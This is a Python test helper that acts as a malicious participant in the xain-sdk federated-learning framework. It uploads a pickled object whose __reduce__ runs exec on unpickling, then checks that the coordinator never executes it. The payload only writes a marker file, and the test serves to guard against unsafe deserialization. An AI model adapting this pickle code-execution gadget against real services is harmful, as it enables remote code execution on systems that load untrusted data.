"""An attacker: a stock xain-sdk participant whose upload is a pickle that runs code when ``pickle.loads``-ed.

    python evil_participant.py HOST PORT ENDPOINT BUCKET MARKER HEARTBEAT   (keys from AWS_* env)

Unpickling its upload writes MARKER; the test asserts the marker never appears on the coordinator's side.
"""

from __future__ import annotations

import pickle
import sys

import numpy as np
from sdk_config import sdk_config
from xain_sdk import participant_state_machine as psm
from xain_sdk.participant import Participant
from xain_sdk.store import S3LocalWeightsWriter


class Exploit:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (f"open({self.marker!r}, 'w').write('executed')",)


def payload(marker: str) -> bytes:
    return pickle.dumps(Exploit(marker))


class EvilWriter(S3LocalWeightsWriter):
    marker = ""

    def write_weights(self, participant_id: str, round: int, weights: np.ndarray) -> None:  # noqa: A002
        key = f"{round}/{participant_id}"
        self.s3.Bucket(self.config.bucket).put_object(Body=payload(self.marker), Key=key)


class Honest(Participant):
    def init_weights(self) -> np.ndarray:
        return np.zeros(650)

    def train_round(self, weights: np.ndarray, epochs: int, epoch_base: int) -> tuple[np.ndarray, int]:
        return weights, 100


def main() -> None:
    host, port, endpoint, bucket, marker, heartbeat = sys.argv[1:7]
    EvilWriter.marker = marker
    psm.S3LocalWeightsWriter = EvilWriter
    psm.HEARTBEAT_TIME = float(heartbeat)
    config = sdk_config(host, port, endpoint, bucket)
    psm.start_participant(Honest(), config)


if __name__ == "__main__":
    main()
